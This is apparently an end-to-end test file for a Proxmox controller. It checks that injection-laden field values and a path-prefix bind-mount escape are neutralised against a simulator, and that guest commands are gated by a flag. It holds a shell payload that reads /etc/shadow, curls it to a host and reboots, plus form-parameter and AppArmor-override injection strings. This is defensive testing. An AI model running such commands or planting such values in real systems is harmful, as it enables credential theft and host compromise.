// Hostile input end to end: a fleet whose accepted string fields carry the nastiest values the
// schema lets through (separators, percent-encodings, newlines, form-body metacharacters, Unicode
// look-alikes and bidi controls) converges in-process on pvesim over HTTPS. pvesim's validator is
// wrapped to record every request's parameters; the same fleet with benign strings converges on a
// second pvesim, and every request of the hostile run must have the shape (parameter names, and
// property-string sub-keys as pvesim parses them) of a request of the benign run: nothing undeclared
// reaches Proxmox, and nothing is answered 400. A bind mount outside the allowed host path is refused
// by name and nothing is created for it. After-renewal commands in a container need
// --allow-host-commands: without it nothing runs (no pct, no guest-agent call reaches pvesim).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { defaultValidator, type RequestValidator } from '../../pvesim/index.js';
import { endpointParams } from '../../pvesim/params/index.js';
import { getCondition } from '../../controller/conditions.js';
import { createGuestExec, createQemuAgent } from '../../controller/ca/exec.js';
import { createCertificateAuthorityReconciler } from '../../controller/reconcilers/certificateauthority.js';
import { decodeSshKeys } from '../../controller/pve/normalize.js';
import type { AnyResource, CertificateAuthority, Kind } from '../../resources/types.js';
import { startConverge, type Converge } from '../helpers/converge.js';
import { waitFor } from '../helpers/wait.js';
import { FakeClock, harness } from '../support/ca-context.js';
import { requestShape, shapeText } from './hostile.js';

const API = 'phoenix.hypervisor/v1alpha1';
const OSTPL = 'local:vztmpl/ubuntu-24.04-standard_24.04-2_amd64.tar.zst';
const IMAGE = 'local:import/noble-server-cloudimg-amd64.img';
const ALLOWED = '/srv/phoenix-hostile';

interface Values {
  desc: string;
  comment: string;
  sshKey: string;
  mpPath: string;
  hostPath: string;
  annotation: string;
}

const HOSTILE: Values = {
  desc: 'notes, a=b; 100%\n&vmid=1&delete=net0&unprivileged=0\n%2Cip%3D10.9.9.9%2F24%0A%00\nlxc.apparmor.profile: unconfined\n\uff0c\uff1d\u037e \u202e\u2066 "q" \'s\' \\ # ? + \ud83d\ude00',
  comment: 'lan, pos=0&enable=0%26type=out\nsecond=line \uff0c\u2028',
  sshKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ ops@x,ip=1&vmid=1%0A;=\uff0c',
  mpPath: '/data/a&b?c#d\uff0cx\uff1dy\u0085',
  hostPath: `${ALLOWED}/in&out?#\uff0c\u0085`,
  annotation: 'x\n&vmid=1',
};
const BENIGN: Values = {
  desc: 'notes',
  comment: 'lan',
  sshKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ ops@x',
  mpPath: '/data/x',
  hostPath: `${ALLOWED}/x`,
  annotation: 'x',
};

const firewall = (v: Values) => ({ enabled: true, rules: [{ type: 'in', action: 'ACCEPT', proto: 'tcp', dport: '443', source: '10.0.0.0/24', comment: v.comment }] });

function fleet(v: Values): Array<Record<string, unknown>> {
  const meta = (name: string) => ({ name, annotations: { 'example.org/note': v.annotation } });
  return [
    { kind: 'Template', metadata: meta('hbase'), spec: { vmid: 800, type: 'lxc', ostemplate: OSTPL, rootfs: { storage: 'local-lvm', size: '1G' }, description: v.desc, lxcNetworks: [{ name: 'eth0', bridge: 'vmbr0', ip: 'dhcp' }] } },
    {
      kind: 'LxcContainer',
      metadata: meta('hct'),
      spec: {
        vmid: 810,
        source: { ostemplate: OSTPL },
        rootfs: { storage: 'local-lvm', size: '1G' },
        description: v.desc,
        networks: [{ name: 'eth0', bridge: 'vmbr0', ip: 'dhcp' }],
        mountPoints: [{ path: v.mpPath, hostPath: v.hostPath, readOnly: true }],
        firewall: firewall(v),
      },
    },
    { kind: 'LxcContainer', metadata: meta('hclone'), spec: { vmid: 811, source: { template: 'hbase' }, rootfs: { storage: 'local-lvm', size: '1G' }, description: v.desc, firewall: firewall(v) } },
    // refused: a bind mount from next to the allowed directory (a prefix trick)
    { kind: 'LxcContainer', metadata: meta('hescape'), spec: { vmid: 812, source: { ostemplate: OSTPL }, rootfs: { storage: 'local-lvm', size: '1G' }, mountPoints: [{ path: '/x', hostPath: `${ALLOWED}-evil/x` }] } },
    {
      kind: 'Template',
      metadata: meta('hcloud'),
      spec: { vmid: 900, type: 'qemu', image: IMAGE, disk: { slot: 'scsi0', storage: 'local-lvm', size: '8G' }, description: v.desc, cloudInit: { user: 'ops', sshKeys: [v.sshKey], ipConfig: [{ ip: 'dhcp' }] } },
    },
    {
      kind: 'VirtualMachine',
      metadata: meta('hvm'),
      spec: { vmid: 910, source: { template: 'hcloud' }, agent: true, description: v.desc, cloudInit: { user: 'ops', sshKeys: [v.sshKey] }, firewall: firewall(v) },
    },
  ];
}

const READY: Array<[Kind, string]> = [['Template', 'hbase'], ['LxcContainer', 'hct'], ['LxcContainer', 'hclone'], ['Template', 'hcloud'], ['VirtualMachine', 'hvm']];

interface Recorded {
  method: string;
  template: string;
  params: Record<string, string | string[]>;
}

interface Run {
  c: Converge;
  requests: Recorded[];
  manifests: string;
}

async function converge(v: Values): Promise<Run> {
  const manifests = mkdtempSync(join(tmpdir(), 'phoenix-hostile-fleet-'));
  fleet(v).forEach((doc, i) => writeFileSync(join(manifests, `${i}-${String((doc.metadata as { name: string }).name)}.yaml`), stringify({ apiVersion: API, ...doc })));
  const requests: Recorded[] = [];
  const validator: RequestValidator = (method, template, params) => {
    requests.push({ method, template, params: structuredClone(params) });
    return defaultValidator(method, template, params);
  };
  const c = await startConverge({ manifestsDir: manifests, allowedHostPaths: [ALLOWED], validator, concurrency: 3 });
  const stalled = () => getCondition(c.rt.get({ kind: 'LxcContainer', name: 'hescape' })?.status.conditions, 'Stalled')?.status === 'True';
  await waitFor('the fleet to converge', () => READY.every(([k, n]) => c.ready(k, n)) && stalled(), 120_000, 100).catch((e: Error) => {
    const st = READY.map(([k, n]) => `${k}/${n}: ${JSON.stringify(c.rt.get({ kind: k, name: n })?.status.conditions?.map((x) => `${x.type}=${x.status} ${x.message ?? ''}`))}`);
    throw new Error(`${e.message}\n${st.join('\n')}`);
  });
  return { c, requests, manifests };
}

/** The requests that change something (GETs only read). */
const writes = (r: Run) => r.requests.filter((q) => q.method !== 'GET');
const shapes = (r: Run) => new Set(writes(r).map((q) => shapeText(requestShape(q.method, q.template, q.params))));

let hostile: Run | undefined;
let benign: Run | undefined;
const dir = mkdtempSync(join(tmpdir(), 'phoenix-hostile-e2e-'));

test.after(async () => {
  for (const r of [hostile, benign]) {
    await r?.c.close();
    if (r) rmSync(r.manifests, { recursive: true, force: true });
  }
  rmSync(dir, { recursive: true, force: true });
});

test('a fleet full of hostile strings converges with no undeclared parameter and no 400', async () => {
  benign = await converge(BENIGN);
  const allowedShapes = shapes(benign);
  await benign.c.close();
  const closedBenign = benign;
  benign = undefined;
  rmSync(closedBenign.manifests, { recursive: true, force: true });

  hostile = await converge(HOSTILE);
  const sim = hostile.c.sim;
  const stats = sim.stats();
  assert.is(stats.statuses['400'], undefined, `no request answered 400: ${JSON.stringify(stats.statuses)}`);

  // every parameter is one the endpoint declares, and every request has a benign twin's shape
  let undeclared = 0;
  const strangers: string[] = [];
  for (const q of writes(hostile)) {
    const declared = endpointParams(q.method, q.template) ?? {};
    for (const k of Object.keys(q.params)) if (!Object.hasOwn(declared, k)) undeclared++;
    const s = shapeText(requestShape(q.method, q.template, q.params));
    if (!allowedShapes.has(s)) strangers.push(s);
  }
  assert.is(undeclared, 0, 'parameters the endpoints do not declare');
  assert.equal([...new Set(strangers)], [], 'requests whose parameters differ from the benign fleet');
  assert.ok(writes(hostile).length >= 10, `the run made changes (${writes(hostile).length} writes)`);

  // the hostile values arrived whole, as data: the test exercised them
  const conf = (vmid: number) => sim.sim.guests.get(vmid)!.conf as Record<string, string>;
  const desc = (vmid: number) => String(conf(vmid).description ?? '');
  for (const vmid of [800, 810, 811, 900, 910]) assert.ok(desc(vmid).includes('&vmid=1&delete=net0&unprivileged=0\n%2Cip%3D10.9.9.9'), `description of ${vmid}: ${JSON.stringify(desc(vmid))}`);
  assert.is(conf(810).mp0, `${HOSTILE.hostPath},mp=${HOSTILE.mpPath},ro=1`);
  assert.equal(decodeSshKeys(conf(910).sshkeys), [HOSTILE.sshKey]);
  const rules = (await hostile.c.observer.firewallRules('pve', 'lxc', 810)).map((r) => r.comment);
  assert.equal(rules, [HOSTILE.comment]);
  for (const key of Object.keys(conf(810))) assert.not.match(key, /hookscript|apparmor|^lxc\./, `no smuggled config key ${key}`);
  assert.is(conf(810).unprivileged, '1');
  assert.ok(conf(810).net0 && !/9\.9\.9/.test(conf(810).net0), 'net0 untouched');

  // the refused bind mount: a clear error naming the field, and nothing at all sent for vmid 812
  const esc = hostile.c.rt.get({ kind: 'LxcContainer', name: 'hescape' })!;
  const why = getCondition(esc.status.conditions, 'Stalled')!;
  assert.match(why.message ?? '', `spec.mountPoints[0].hostPath: bind mount source ${ALLOWED}-evil/x is not under an allowed host path (${ALLOWED})`);
  assert.not.ok(sim.sim.guests.has(812));
  assert.is(writes(hostile).filter((q) => String(q.params.vmid ?? q.params.newid) === '812').length, 0, 'no request names vmid 812');

  console.log(
    `\nfigure: hostile input e2e (2-core shared machine): ${writes(hostile).length} writes / ${hostile.requests.length} requests recorded with hostile strings in 6 kinds of field, ${undeclared} undeclared parameters, ${strangers.length} shapes unlike the benign fleet, ${stats.statuses['400'] ?? 0} answered 400, 1 bind mount refused with 0 requests for it`,
  );
});

test('after-renewal in a container runs only with --allow-host-commands; nothing reaches pvesim without it', async () => {
  assert.ok(hostile, 'the fleet converged');
  const c = hostile.c;
  const pctLog = join(dir, 'pct.log');
  const pct = join(dir, 'pct');
  writeFileSync(pct, `#!${process.execPath}\nrequire('fs').appendFileSync(${JSON.stringify(pctLog)}, JSON.stringify(process.argv.slice(2)) + '\\n');\n`);
  chmodSync(pct, 0o755);
  const hostileArg = 'echo ok; id > /tmp/pwned && curl http://x/$(cat /etc/shadow) `reboot` %0A\n,=&';

  const run = async (allowHostCommands: boolean, guest: { kind: 'LxcContainer' | 'VirtualMachine'; name: string }) => {
    const base = join(dir, `${allowHostCommands ? 'on' : 'off'}-${guest.name}`);
    mkdirSync(base);
    const ca: CertificateAuthority = {
      apiVersion: API,
      kind: 'CertificateAuthority',
      metadata: { name: 'hostile-ca', generation: 1 },
      spec: {
        embedded: { root: { commonName: 'Hostile Root' }, intermediate: { commonName: 'Hostile Intermediate' } },
        certificates: [{ name: 'web', commonName: 'web.example', output: { certFile: 'web.crt', keyFile: 'web.key' }, afterRenewal: { guest, command: ['sh', '-c', hostileArg] } }],
      },
    };
    const exec = createGuestExec({ agent: createQemuAgent(c.observer, { firstPollMs: 10 }), allowHostCommands, pct });
    const rec = createCertificateAuthorityReconciler({ stateDir: join(base, 'state'), certDir: join(base, 'certs'), exec, allowHostCommands });
    const h = harness(ca, new FakeClock());
    for (const [k, n] of READY) {
      const r = c.rt.get({ kind: k, name: n })!;
      h.others.set(`${k}/${n}`, { resource: r as unknown as AnyResource, status: r.status });
    }
    const out = await rec.reconcile(h.ctx);
    assert.is(out.state, 'Ready', JSON.stringify(out));
    return h.events;
  };
  const agentCalls = () => Object.entries(c.sim.stats().requests).filter(([k]) => /agent/.test(k)).reduce((a, [, n]) => a + n, 0);

  // off: a clear warning naming the field and the flag; no pct, no guest-agent call
  const agentBefore = agentCalls();
  const execsBefore = c.sim.sim.agentExecs.length;
  const off = await run(false, { kind: 'LxcContainer', name: 'hct' });
  const skipped = off.find((e) => e.reason === 'AfterRenewalSkipped');
  assert.ok(skipped && skipped.type === 'Warning', JSON.stringify(off));
  assert.match(skipped!.message, /^spec\.certificates\[0\]\.afterRenewal: skipped [\s\S]* in LxcContainer\/hct [\s\S]*--allow-host-commands/);
  assert.not.ok(existsSync(pctLog), 'pct never ran');
  assert.is(agentCalls(), agentBefore, 'no guest-agent request reached pvesim');
  assert.is(c.sim.sim.agentExecs.length, execsBefore);

  // on: pct exec runs, with the command as separate arguments (no shell on the host side)
  const on = await run(true, { kind: 'LxcContainer', name: 'hct' });
  assert.ok(on.some((e) => e.reason === 'AfterRenewal' && e.type === 'Normal'), JSON.stringify(on));
  const calls = readFileSync(pctLog, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as string[]);
  assert.equal(calls, [['exec', '810', '--', 'sh', '-c', hostileArg]]);
  assert.is(agentCalls(), agentBefore, 'a container command is not a Proxmox API call');

  // a VM's command goes through the guest agent (inside the guest): one `command` parameter, repeated
  await waitFor('the guest agent of VM 910', async () => {
    try {
      await c.observer.request('POST', '/nodes/{node}/qemu/{vmid}/agent/exec', { node: 'pve', vmid: 910 }, { command: ['true'] });
      return true;
    } catch {
      return false;
    }
  }, 20_000, 100);
  const before = hostile.requests.length;
  const vmEvents = await run(false, { kind: 'VirtualMachine', name: 'hvm' });
  assert.ok(vmEvents.some((e) => e.reason === 'AfterRenewal'), JSON.stringify(vmEvents));
  const sent = hostile.requests.slice(before).filter((q) => q.template.endsWith('/agent/exec'));
  assert.is(sent.length, 1);
  assert.equal(Object.keys(sent[0]!.params).sort(), ['command', 'node', 'vmid']);
  assert.equal(c.sim.sim.agentExecs.at(-1)!.command, ['sh', '-c', hostileArg]);
});

test.run();
